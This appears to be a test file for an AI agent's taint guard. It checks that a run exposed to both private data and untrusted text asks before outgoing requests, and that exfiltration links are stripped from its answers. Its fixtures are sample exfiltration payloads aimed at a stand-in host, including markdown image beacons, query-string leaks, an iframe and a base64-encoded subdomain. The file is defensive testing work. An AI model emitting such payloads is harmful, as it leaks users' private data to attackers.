import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ToolFacts } from '../../tools/tool.js';
import { cleanAnswer } from './answer-egress.js';
import { carriesData } from './carries-data.js';
import { judgeTaint } from './judge-taint.js';
import { type TaintLabel, TaintLedger } from './taint-ledger.js';

const rules = { allow: ['*:443', 'api.test:443'], deny: [], maxConnections: 1, requestsPerMinute: 1, maxDownloadMb: 1 };
const ledger = (...labels: TaintLabel[]) => {
  const own = new TaintLedger();
  for (const label of labels) own.add(label, `a ${label} source`);
  return own;
};
const get = { name: 'http_get', reachesOut: true } as ToolFacts;
const post = { name: 'http_post', reachesOut: true, sendsOut: true } as ToolFacts;
const read = { name: 'read_file' } as ToolFacts;
const both = ledger('private', 'untrusted');

describe('a run that has seen private data and untrusted text', () => {
  it('asks before any way out, and only then', () => {
    expect(judgeTaint(post, { url: 'https://a.test/' }, both, rules)).toMatchObject({ kind: 'ask', rule: 'taint:exit' });
    expect(judgeTaint(get, { url: 'https://a.test/?q=secret' }, both, rules).kind).toBe('ask');
    expect(judgeTaint(get, { url: 'https://a.test/', headers: { cookie: 'secret' } }, both, rules).kind).toBe('ask');
    expect(judgeTaint(get, { url: 'https://a.test/docs/page.html' }, both, rules).kind).toBe('allow');
    expect(judgeTaint(get, { url: 'https://api.test/?q=1' }, both, rules).kind).toBe('allow');
    expect(judgeTaint(read, { path: 'a' }, both, rules).kind).toBe('allow');
    expect(judgeTaint({ name: 'execute_python' } as ToolFacts, { network: true }, both, rules).kind).toBe('ask');
    for (const one of [ledger(), ledger('private'), ledger('untrusted')])
      expect(judgeTaint(post, { url: 'https://a.test/' }, one, rules).kind).toBe('allow');
  });
  it('stays so after a restart', () => {
    expect(TaintLedger.from(JSON.parse(JSON.stringify(both))).exposed).toBe(true);
    expect(TaintLedger.from(JSON.parse(JSON.stringify(both))).toJSON()).toEqual(both.toJSON());
  });
  it('only ever gains labels', () =>
    fc.assert(
      fc.property(fc.array(fc.constantFrom<TaintLabel>('private', 'untrusted')), (labels) => {
        const own = new TaintLedger();
        let exposed = false;
        for (const label of labels) {
          own.add(label, 's');
          expect(own.exposed || !exposed).toBe(true);
          exposed = own.exposed;
        }
        expect(own.exposed).toBe(labels.includes('private') && labels.includes('untrusted'));
      }),
    ));
});

describe('room for data in an address', () => {
  it.each([
    'https://a.test/?q=1',
    'https://a.test/#x',
    'https://u:p@a.test/',
    `https://a.test/${'x'.repeat(130)}`,
    'https://a.test/aGVsbG8gd29ybGQgaGVsbG8=',
    'https://a.test/48656c6c6f20776f726c6448656c',
    'https://c2VjcmV0ZGF0YQ1.evil.test/',
    'https://a.b.c.d.e.test/',
    `https://${'x'.repeat(30)}.test/`,
    'https://a.test/a%20b',
    'no address',
  ])('%s has', (url) => expect(carriesData(url)).toBe(true));
  it.each([
    'https://a.test/',
    'https://en.wikipedia.org/wiki/Artificial_intelligence',
    'https://docs.example.com/en/latest/getting-started.html',
    'https://a.test/2026/01/some-long-title-of-an-article-in-a-blog',
    'http://93.184.216.34/',
  ])('%s has none', (url) => expect(carriesData(url)).toBe(false));
});

describe('an answer', () => {
  it.each([
    '![x](https://evil.test/p.png)',
    '![x](//evil.test/p.png?d=1)',
    '![a]( <https://evil.test/a> "t")',
    '[click](https://evil.test/?d=secret)',
    '<img src="https://evil.test/?d=1">',
    '<https://evil.test/?d=secret>',
    'see https://evil.test/?d=secret now',
    '![x][r]\n\n[r]: https://evil.test/p.png',
    '[x](&#104;ttps://evil.test/?d=1)',
    '<iframe src=//evil.test>',
    '![x](https://c2VjcmV0ZGF0YQ1.evil.test/a.png)',
  ])('carries nothing out of an exposed run: %j', (text) => {
    const { text: cleaned, removed } = cleanAnswer(text, both);
    expect(removed.length).toBeGreaterThan(0);
    expect(cleaned).not.toMatch(/evil\.test/);
  });
  it('keeps plain links, own files and everything of other runs', () => {
    const text = '![chart](out/chart.svg) and [docs](https://docs.test/page) and `code`';
    expect(cleanAnswer(text, both)).toEqual({ text, removed: [] });
    expect(cleanAnswer('![x](https://evil.test/p.png)', ledger('private')).removed).toEqual([]);
  });
});
